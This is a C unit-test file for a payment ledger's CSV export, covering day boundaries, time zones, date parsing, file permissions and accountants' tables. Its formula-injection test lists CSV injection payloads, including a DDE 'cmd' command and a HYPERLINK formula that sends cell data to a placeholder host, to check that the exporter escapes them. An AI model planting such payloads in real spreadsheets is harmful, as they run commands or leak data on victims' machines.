/* test-export.c: one local day of the ledger as CSV, against a golden file. */

#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

#include "core/saoma-export.h"
#include "ledger/saoma-ledger.h"

typedef struct
{
  char        *dir;
  char        *path;
  SaomaLedger *ledger;
  GTimeZone   *tz;
} Fixture;

static gint64
local_us (GTimeZone *tz,
          int        y,
          int        mo,
          int        d,
          int        h,
          int        mi,
          int        s,
          int        us)
{
  g_autoptr(GDateTime) dt = g_date_time_new (tz, y, mo, d, h, mi, s);

  return g_date_time_to_unix (dt) * G_USEC_PER_SEC + us;
}

static void
add (Fixture           *f,
     GPtrArray         *rows,
     const char        *no,
     gint64             created,
     gint64             amount,
     SaomaAttemptState  state,
     const char        *till,
     const char        *transaction_id,
     const char        *description)
{
  g_ptr_array_add (rows, saoma_attempt_new_full (0, no, amount, description, till, created,
                                                 created, created + 300 * G_USEC_PER_SEC, state,
                                                 transaction_id, NULL, 0, 0, FALSE));
}

static void
refund (Fixture    *f,
        const char *out_trade_no,
        const char *out_refund_no,
        gint64      amount)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SaomaLedgerRefund) r = NULL;

  r = saoma_ledger_insert_refund_sync (f->ledger, out_trade_no, out_refund_no, amount, NULL,
                                       &error);
  g_assert_no_error (error);
  g_clear_pointer (&r, saoma_ledger_refund_free);
  r = saoma_ledger_update_refund_sync (f->ledger, out_refund_no, SAOMA_REFUND_SUCCESS, "5000",
                                       NULL, &error);
  g_assert_no_error (error);
}

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func (g_object_unref);
  GTimeZone *tz;

  f->dir = g_dir_make_tmp ("saoma-export-XXXXXX", &error);
  g_assert_no_error (error);
  f->path = g_build_filename (f->dir, "ledger.db", NULL);
  f->ledger = saoma_ledger_open_sync (f->path, NULL, &error);
  g_assert_no_error (error);
  /* A fixed zone that is not UTC, so local and UTC days differ by eight hours. */
  tz = f->tz = g_time_zone_new_identifier ("+08:00");
  g_assert_nonnull (tz);

  /* Inserted out of order, with neighbours just outside the day on both sides. */
  add (f, rows, "EXP0006", local_us (tz, 2026, 11, 27, 23, 59, 59, 999999), 10,
       SAOMA_ATTEMPT_PAID, "till-1", "4200000001202611270006", "扫码收银台 ¥");
  add (f, rows, "BEFORE1", local_us (tz, 2026, 11, 26, 23, 59, 59, 0), 100,
       SAOMA_ATTEMPT_PAID, "till-1", "4200000001202611260001", "yesterday");
  add (f, rows, "BEFORE2", local_us (tz, 2026, 11, 27, 0, 0, 0, 0) - 1, 100,
       SAOMA_ATTEMPT_PAID, "till-1", NULL, "one µs before midnight");
  add (f, rows, "EXP0003", local_us (tz, 2026, 11, 27, 12, 0, 0, 0), 10000,
       SAOMA_ATTEMPT_PAID, "till-2", "4200000001202611270003", "第一行\n第二行");
  add (f, rows, "EXP0004", local_us (tz, 2026, 11, 27, 12, 0, 0, 0), 1,
       SAOMA_ATTEMPT_FAILED, "till-2", NULL, "a\r\nb, \"c\"");
  add (f, rows, "AFTER1", local_us (tz, 2026, 11, 28, 0, 0, 0, 0), 100,
       SAOMA_ATTEMPT_PAID, "till-1", NULL, "tomorrow");
  add (f, rows, "EXP0001", local_us (tz, 2026, 11, 27, 0, 0, 0, 0), 3850,
       SAOMA_ATTEMPT_PAID, "till-1", "4200000001202611270001", "拿铁, 大杯");
  add (f, rows, "EXP0002", local_us (tz, 2026, 11, 27, 8, 15, 30, 999999), 1200,
       SAOMA_ATTEMPT_CLOSED, "till-1", NULL, "He said \"hi\"");
  add (f, rows, "EXP0005", local_us (tz, 2026, 11, 27, 18, 30, 0, 0), 9999999,
       SAOMA_ATTEMPT_WAITING, NULL, NULL, NULL);

  g_assert_true (saoma_ledger_insert_many_sync (f->ledger, rows, &error));
  g_assert_no_error (error);

  refund (f, "EXP0003", "RF3", 5000);
  refund (f, "EXP0006", "RF6", 10);
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_autofree char *wal = g_strconcat (f->path, "-wal", NULL);
  g_autofree char *shm = g_strconcat (f->path, "-shm", NULL);

  g_clear_object (&f->ledger);
  g_unlink (f->path);
  g_unlink (wal);
  g_unlink (shm);
  g_rmdir (f->dir);
  g_free (f->dir);
  g_free (f->path);
  g_time_zone_unref (f->tz);
}

static GBytes *
golden (const char *name)
{
  g_autofree char *path = g_build_filename (g_getenv ("SAOMA_TEST_DATA"), "core", name, NULL);
  g_autoptr(GError) error = NULL;
  char *contents = NULL;
  gsize len = 0;

  g_file_get_contents (path, &contents, &len, &error);
  g_assert_no_error (error);

  return g_bytes_new_take (contents, len);
}

static void
assert_bytes_equal (GBytes *got,
                    GBytes *want)
{
  gsize got_len, want_len;
  const char *g = g_bytes_get_data (got, &got_len);
  const char *w = g_bytes_get_data (want, &want_len);

  if (!g_bytes_equal (got, want))
    {
      g_autofree char *gs = g_strndup (g, got_len);
      g_autofree char *ws = g_strndup (w, want_len);

      g_assert_cmpstr (gs, ==, ws);
      g_assert_cmpuint (got_len, ==, want_len);
    }
}

static GDate
date (guint y,
      guint m,
      guint d)
{
  GDate ret;

  g_date_clear (&ret, 1);
  g_date_set_dmy (&ret, d, m, y);

  return ret;
}

static void
test_golden (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GBytes) got = NULL;
  g_autoptr(GBytes) want = golden ("export-day.csv");
  g_autoptr(GError) error = NULL;
  GDate day = date (2026, 11, 27);
  guint rows = 0;

  g_assert_true (saoma_export_day_to_stream (f->ledger, &day, f->tz, out, &rows, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (rows, ==, 6);
  g_assert_true (g_output_stream_close (out, NULL, NULL));

  got = g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (out));
  assert_bytes_equal (got, want);
}

static void
test_neighbour_days (Fixture       *f,
                     gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  struct { GDate day; const char *expect[3]; } cases[] = {
    { date (2026, 11, 26), { "BEFORE1", "BEFORE2", NULL } },
    { date (2026, 11, 28), { "AFTER1", NULL } },
    { date (2026, 11, 29), { NULL } },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
      g_autofree char *text = NULL;
      g_auto(GStrv) lines = NULL;
      guint rows = 99, n = 0;

      g_assert_true (saoma_export_day_to_stream (f->ledger, &cases[i].day, f->tz, out, &rows,
                                                 NULL, &error));
      g_assert_no_error (error);
      g_output_stream_write_all (out, "", 1, NULL, NULL, NULL);
      g_output_stream_close (out, NULL, NULL);
      text = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
      lines = g_strsplit (text, "\r\n", -1);

      g_assert_cmpstr (lines[0], ==, "\xEF\xBB\xBF" SAOMA_EXPORT_CSV_HEADER);
      while (cases[i].expect[n] != NULL)
        {
          g_assert_nonnull (lines[n + 1]);
          g_assert_nonnull (strstr (lines[n + 1], cases[i].expect[n]));
          n++;
        }
      g_assert_cmpuint (rows, ==, n);
      g_assert_cmpstr (lines[n + 1], ==, "");
      g_assert_null (lines[n + 2]);
    }
}

static void
test_day_range (void)
{
  g_autoptr(GTimeZone) cst = g_time_zone_new_identifier ("+08:00");
  g_autoptr(GTimeZone) utc = g_time_zone_new_utc ();
  g_autoptr(GTimeZone) berlin = g_time_zone_new_identifier ("Europe/Berlin");
  GDate day = date (2026, 11, 27);
  gint64 start, end;

  saoma_export_day_range (&day, cst, &start, &end);
  /* 2026-11-27T00:00+08:00 is 2026-11-26T16:00Z. */
  g_assert_cmpint (start, ==, G_GINT64_CONSTANT (1795708800) * G_USEC_PER_SEC);
  g_assert_cmpint (end - start, ==, G_GINT64_CONSTANT (86400) * G_USEC_PER_SEC);

  saoma_export_day_range (&day, utc, &start, &end);
  g_assert_cmpint (start, ==, G_GINT64_CONSTANT (1795737600) * G_USEC_PER_SEC);

  /* Across a DST change a local day is 23 or 25 hours long. */
  if (berlin != NULL && g_strcmp0 (g_time_zone_get_identifier (berlin), "Europe/Berlin") == 0)
    {
      GDate spring = date (2026, 3, 29);
      GDate autumn = date (2026, 10, 25);

      saoma_export_day_range (&spring, berlin, &start, &end);
      g_assert_cmpint (end - start, ==, G_GINT64_CONSTANT (23 * 3600) * G_USEC_PER_SEC);
      saoma_export_day_range (&autumn, berlin, &start, &end);
      g_assert_cmpint (end - start, ==, G_GINT64_CONSTANT (25 * 3600) * G_USEC_PER_SEC);
    }
  else
    g_test_message ("no tzdata for Europe/Berlin: DST case not checked");
}

static void
test_parse_date (void)
{
  const char *bad[] = { "", "2026-1-27", "2026/11/27", "27-11-2026", "2026-11-27 ",
                        "2026-13-01", "2026-02-29", "2026-11-31", "２０２６-11-27", "abcd-ef-gh" };
  g_autoptr(GError) error = NULL;
  GDate d;

  g_assert_true (saoma_export_parse_date ("2026-11-27", &d, &error));
  g_assert_no_error (error);
  g_assert_cmpint (g_date_get_year (&d), ==, 2026);
  g_assert_cmpint (g_date_get_month (&d), ==, 11);
  g_assert_cmpint (g_date_get_day (&d), ==, 27);
  g_assert_true (saoma_export_parse_date ("2028-02-29", &d, &error));

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_assert_false (saoma_export_parse_date (bad[i], &d, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
      g_clear_error (&error);
    }
}

static void
exported_cb (GObject      *object,
             GAsyncResult *result,
             gpointer      user_data)
{
  GError **out_error = user_data;
  gint64 rows;

  rows = saoma_export_day_finish (SAOMA_STORE (object), result, out_error);
  if (rows >= 0)
    {
      g_assert_cmpint (rows, ==, 6);
      *out_error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_EXISTS, "done");
    }
}

static void
test_async_to_file (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *csv = g_build_filename (f->dir, "day.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (csv);
  g_autoptr(GFileOutputStream) out = NULL;
  g_autoptr(GBytes) want = golden ("export-day.csv");
  g_autoptr(GBytes) got = NULL;
  g_autoptr(GError) error = NULL;
  GError *result = NULL;
  GDate day = date (2026, 11, 27);

  out = g_file_replace (file, NULL, FALSE, G_FILE_CREATE_NONE, NULL, &error);
  g_assert_no_error (error);

  saoma_export_day_async (SAOMA_STORE (f->ledger), &day, f->tz, G_OUTPUT_STREAM (out), NULL,
                          exported_cb,
                          &result);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (result, G_IO_ERROR, G_IO_ERROR_EXISTS);   /* i.e. success, 6 rows */
  g_clear_error (&result);
  g_assert_true (g_output_stream_close (G_OUTPUT_STREAM (out), NULL, &error));

  got = g_file_load_bytes (file, NULL, NULL, &error);
  g_assert_no_error (error);
  assert_bytes_equal (got, want);
  g_unlink (csv);

  /* A cancelled export reports it. */
  {
    g_autoptr(GCancellable) cancellable = g_cancellable_new ();
    g_autoptr(GOutputStream) mem = g_memory_output_stream_new_resizable ();

    g_cancellable_cancel (cancellable);
    saoma_export_day_async (SAOMA_STORE (f->ledger), &day, f->tz, mem, cancellable, exported_cb,
                            &result);
    while (result == NULL)
      g_main_context_iteration (NULL, TRUE);
    g_assert_error (result, G_IO_ERROR, G_IO_ERROR_CANCELLED);
    g_clear_error (&result);
  }
}

/* OWASP's CSV injection rule, and long digit strings kept as text. */
static void
test_formula_injection (void)
{
  static const struct
  {
    const char *value;
    const char *csv;
  } cases[] = {
    { "=1+2", "'=1+2" },
    { "+1", "'+1" },
    { "-1+2", "'-1+2" },
    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
    { "\t=1", "'\t=1" },
    { "\r=1", "\"'\r=1\"" },
    { "=HYPERLINK(\"http://x.example/?\"&A1,\"查看\")",
      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"查看\"\")\"" },
    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
    { "-", "'-" },
    { "-.5", "'-.5" },
    { "-12.50", "-12.50" },
    { "12.50", "12.50" },
    { "a=b", "a=b" },
    { "拿铁 -1", "拿铁 -1" },
    { "", "" },
    { "123456789012345", "123456789012345" },
    { "1234567890123456", "'1234567890123456" },
    { "4200000483202001042069747825", "'4200000483202001042069747825" },
    { "50300103182020010413419046597", "'50300103182020010413419046597" },
    { "T01-4200000483202001042069747825", "T01-4200000483202001042069747825" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) buf = g_string_new (NULL);

      saoma_export_append_csv_field (buf, cases[i].value);
      g_assert_cmpstr (buf->str, ==, cases[i].csv);
    }
}

static guint
file_mode (const char *path)
{
  GStatBuf st;

  g_assert_cmpint (g_stat (path, &st), ==, 0);

  return st.st_mode & 0777;
}

/* Exports are the owner's only, new or replacing a world-readable file, whatever the umask. */
static void
test_file_mode (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("saoma-export-mode-XXXXXX", &error);
  g_autofree char *stream_path = g_build_filename (dir, "stream.csv", NULL);
  g_autofree char *file_path = g_build_filename (dir, "file.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (stream_path);
  mode_t old_umask = umask (022);

  g_assert_no_error (error);
  for (guint round = 0; round < 2; round++)
    {
      g_autoptr(GFileOutputStream) out = saoma_export_create_file (file, NULL, &error);
      g_autofree char *back = NULL;

      g_assert_no_error (error);
      g_assert_true (g_output_stream_write_all (G_OUTPUT_STREAM (out), "a,b\r\n", 5, NULL, NULL,
                                                &error));
      g_assert_true (g_output_stream_close (G_OUTPUT_STREAM (out), NULL, &error));
      g_assert_no_error (error);
      g_assert_cmpuint (file_mode (stream_path), ==, 0600);
      g_assert_true (g_file_get_contents (stream_path, &back, NULL, NULL));
      g_assert_cmpstr (back, ==, "a,b\r\n");

      g_assert_true (saoma_export_write_file (file_path, "c,d\r\n", -1, &error));
      g_assert_no_error (error);
      g_assert_cmpuint (file_mode (file_path), ==, 0600);

      /* The second round replaces files someone made world-readable. */
      g_assert_cmpint (g_chmod (stream_path, 0644), ==, 0);
      g_assert_cmpint (g_chmod (file_path, 0644), ==, 0);
    }

  umask (old_umask);
  g_unlink (stream_path);
  g_unlink (file_path);
  g_rmdir (dir);
}

static const char *
chinese_word (const char *key,
              gpointer    user_data)
{
  static const char *const pairs[][2] = {
    { "type", "类型" }, { "amount", "金额（元）" }, { "PARTIALLY_REFUNDED", "部分退款" },
    { "SUCCESS", "已退款" }, { "order", "订单" }, { "refund", "退款" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (pairs); i++)
    if (strcmp (key, pairs[i][0]) == 0)
      return pairs[i][1];
  return NULL;
}

static char *
flat_csv (SaomaLedger         *ledger,
          const GDate         *date,
          GTimeZone           *tz,
          SaomaExportWordFunc  word,
          guint               *out_rows)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();

  g_assert_true (saoma_export_flat_day_to_stream (ledger, date, tz, word, NULL, stream, out_rows,
                                                  NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (stream, "", 1, NULL, NULL, &error));
  g_output_stream_close (stream, NULL, NULL);
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (stream));
}

/* Issue 12.17: one flat table for accountants: orders and refunds with the same columns,
 * words from the caller, refunds negative, long ids as text, formulas guarded. Refund rows
 * carry the ledger's "now", so the day is today. */
static void
test_flat (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("saoma-flat-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "ledger.db", NULL);
  g_autoptr(GTimeZone) tz = g_time_zone_new_identifier ("+08:00");
  g_autoptr(GDateTime) now = g_date_time_new_now (tz);
  g_autoptr(GDateTime) midnight = g_date_time_new (tz, g_date_time_get_year (now),
                                                   g_date_time_get_month (now),
                                                   g_date_time_get_day_of_month (now), 0, 0, 30);
  g_autoptr(SaomaLedger) ledger = saoma_ledger_open_sync (path, NULL, &error);
  g_autoptr(SaomaLedgerRefund) r = NULL;
  g_autoptr(SaomaLedgerRefund) done = NULL;
  g_autofree char *english = NULL;
  g_autofree char *chinese = NULL;
  g_auto(GStrv) lines = NULL;
  gint64 created = g_date_time_to_unix (midnight) * G_USEC_PER_SEC;
  guint rows = 0;
  GDate date;

  g_assert_no_error (error);
  {
    g_autoptr(SaomaAttempt) a = saoma_attempt_new ("F1", 3850, "=HYPERLINK(\"x\")", "T01",
                                                   created, created + 300 * G_USEC_PER_SEC);
    g_autoptr(SaomaAttempt) b = saoma_attempt_new ("F2", 999, "茶", "T01",
                                                   created + G_USEC_PER_SEC,
                                                   created + 301 * G_USEC_PER_SEC);
    g_autoptr(SaomaAttempt) ia = saoma_ledger_insert_attempt_sync (ledger, a, &error);
    g_autoptr(SaomaAttempt) ib = saoma_ledger_insert_attempt_sync (ledger, b, &error);
    g_autoptr(SaomaAttempt) ua = NULL;
    g_autoptr(SaomaAttempt) ub = NULL;
    SaomaAttemptUpdate paid = { .state = SAOMA_ATTEMPT_PAID, .paid_at = created + 10,
                                .transaction_id = "4200000000202611200000000001" };
    SaomaAttemptUpdate closed = { .state = SAOMA_ATTEMPT_CLOSED };

    g_assert_no_error (error);
    ua = saoma_ledger_update_attempt_sync (ledger, "F1", &paid, &error);
    g_assert_no_error (error);
    ub = saoma_ledger_update_attempt_sync (ledger, "F2", &closed, &error);
    g_assert_no_error (error);
  }
  r = saoma_ledger_insert_refund_sync (ledger, "F1", "RF1", 1000, "退货", &error);
  g_assert_no_error (error);
  done = saoma_ledger_update_refund_sync (ledger, "RF1", SAOMA_REFUND_SUCCESS,
                                          "50300000000000000000000000001", "test", &error);
  g_assert_no_error (error);

  g_date_clear (&date, 1);
  g_date_set_dmy (&date, g_date_time_get_day_of_month (now), g_date_time_get_month (now),
                  g_date_time_get_year (now));
  english = flat_csv (ledger, &date, tz, NULL, &rows);
  g_test_message ("%s", english);
  g_assert_cmpuint (rows, ==, 3);
  g_assert_true (g_str_has_prefix (english, "\xEF\xBB\xBF" SAOMA_EXPORT_FLAT_COLUMNS "\r\n"));
  lines = g_strsplit (english + 3, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 5);  /* header, 3 rows, "" */
  g_assert_true (g_str_has_prefix (lines[1], "order,"));
  g_assert_nonnull (strstr (lines[1], ",T01,F1,,'4200000000202611200000000001,38.50,"
                                      "PARTIALLY_REFUNDED,\"'=HYPERLINK(\"\"x\"\")\""));
  g_assert_nonnull (strstr (lines[2], ",T01,F2,,,9.99,CLOSED,茶"));
  g_assert_true (g_str_has_prefix (lines[3], "refund,"));
  g_assert_nonnull (strstr (lines[3], ",,F1,RF1,'50300000000000000000000000001,-10.00,SUCCESS,"
                                      "退货"));

  chinese = flat_csv (ledger, &date, tz, chinese_word, NULL);
  g_assert_true (g_str_has_prefix (chinese, "\xEF\xBB\xBF" "类型,time,till,"));
  g_assert_nonnull (strstr (chinese, "金额（元）"));
  g_assert_nonnull (strstr (chinese, "\r\n订单,"));
  g_assert_nonnull (strstr (chinese, ",38.50,部分退款,"));
  g_assert_nonnull (strstr (chinese, "\r\n退款,"));
  g_assert_nonnull (strstr (chinese, ",-10.00,已退款,"));

  g_clear_object (&ledger);
  {
    g_autofree char *wal = g_strconcat (path, "-wal", NULL);
    g_autofree char *shm = g_strconcat (path, "-shm", NULL);

    g_remove (path);
    g_remove (wal);
    g_remove (shm);
    g_rmdir (dir);
  }
}

#define HOUR_US (G_GINT64_CONSTANT (3600) * G_USEC_PER_SEC)

/* Issue 13: the app's accountants' table carries each order's payment method, last; a refund
 * has its order's; the words go through the caller's language like the rest. */
static void
test_flat_method (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("saoma-flat-method-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "ledger.db", NULL);
  g_autoptr(GTimeZone) tz = g_time_zone_new_identifier ("+08:00");
  g_autoptr(SaomaLedger) ledger = saoma_ledger_open_sync (path, NULL, &error);
  g_autoptr(SaomaLedgerRefund) r = NULL;
  g_autoptr(SaomaLedgerRefund) done = NULL;
  g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autofree char *text = NULL;
  g_auto(GStrv) lines = NULL;
  gint64 now = g_get_real_time ();
  guint rows = 0;

  g_assert_no_error (error);
  {
    g_autoptr(SaomaAttempt) a = saoma_attempt_new ("Q1", 1000, "扫码", "T01",
                                                   now - 60 * G_USEC_PER_SEC,
                                                   now + 240 * G_USEC_PER_SEC);
    g_autoptr(SaomaAttempt) b = saoma_attempt_new ("M1", 1234, "付款码", "T01",
                                                   now - 30 * G_USEC_PER_SEC,
                                                   now + 30 * G_USEC_PER_SEC);
    g_autoptr(SaomaAttempt) ia = NULL;
    g_autoptr(SaomaAttempt) ib = NULL;
    g_autoptr(SaomaAttempt) ub = NULL;
    SaomaAttemptUpdate paid = { .state = SAOMA_ATTEMPT_PAID, .paid_at = now,
                                .transaction_id = "4200000000202611200000000002" };
    SaomaAttemptUpdate submitted = { .state = SAOMA_ATTEMPT_SUBMITTED };

    saoma_attempt_set_method (b, SAOMA_PAYMENT_METHOD_MICROPAY);
    ia = saoma_ledger_insert_attempt_sync (ledger, a, &error);
    g_assert_no_error (error);
    ib = saoma_ledger_insert_attempt_sync (ledger, b, &error);
    g_assert_no_error (error);
    g_clear_object (&ub);
    ub = saoma_ledger_update_attempt_sync (ledger, "M1", &submitted, &error);
    g_assert_no_error (error);
    g_clear_object (&ub);
    ub = saoma_ledger_update_attempt_sync (ledger, "M1", &paid, &error);
    g_assert_no_error (error);
  }
  r = saoma_ledger_insert_refund_sync (ledger, "M1", "RM1", 234, "退货", &error);
  g_assert_no_error (error);
  done = saoma_ledger_update_refund_sync (ledger, "RM1", SAOMA_REFUND_SUCCESS,
                                          "50300000000000000000000000002", "test", &error);
  g_assert_no_error (error);

  g_assert_true (saoma_export_flat_range_to_stream (ledger, now - HOUR_US, now + HOUR_US, tz,
                                                    chinese_word, NULL,
                                                    stream, &rows, NULL, &error));
  g_assert_no_error (error);
  g_output_stream_write_all (stream, "", 1, NULL, NULL, NULL);
  g_output_stream_close (stream, NULL, NULL);
  text = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (stream));
  g_test_message ("%s", text);
  g_assert_cmpuint (rows, ==, 3);
  lines = g_strsplit (text + 3, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 5);
  g_assert_cmpstr (lines[0], ==, "类型,time,till,out_trade_no,out_refund_no,wechat_id,金额（元）,"
                                 "state,note,method");
  g_assert_true (g_str_has_suffix (lines[1], ",10.00,CREATED,扫码,NATIVE"));
  g_assert_true (g_str_has_suffix (lines[2], ",12.34,部分退款,付款码,MICROPAY"));
  g_assert_true (g_str_has_prefix (lines[3], "退款,"));
  g_assert_true (g_str_has_suffix (lines[3], ",-2.34,已退款,退货,MICROPAY"));

  g_clear_object (&ledger);
  {
    g_autofree char *wal = g_strconcat (path, "-wal", NULL);
    g_autofree char *shm = g_strconcat (path, "-shm", NULL);

    g_remove (path);
    g_remove (wal);
    g_remove (shm);
    g_rmdir (dir);
  }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(name, fn) g_test_add (name, Fixture, NULL, fixture_set_up, fn, fixture_tear_down)
  ADD ("/export/golden", test_golden);
  ADD ("/export/neighbour-days", test_neighbour_days);
  ADD ("/export/async-to-file", test_async_to_file);
  g_test_add_func ("/export/day-range", test_day_range);
  g_test_add_func ("/export/parse-date", test_parse_date);
  g_test_add_func ("/export/formula-injection", test_formula_injection);
  g_test_add_func ("/export/file-mode", test_file_mode);
  g_test_add_func ("/export/flat", test_flat);
  g_test_add_func ("/export/flat-method", test_flat_method);
#undef ADD

  return g_test_run ();
}
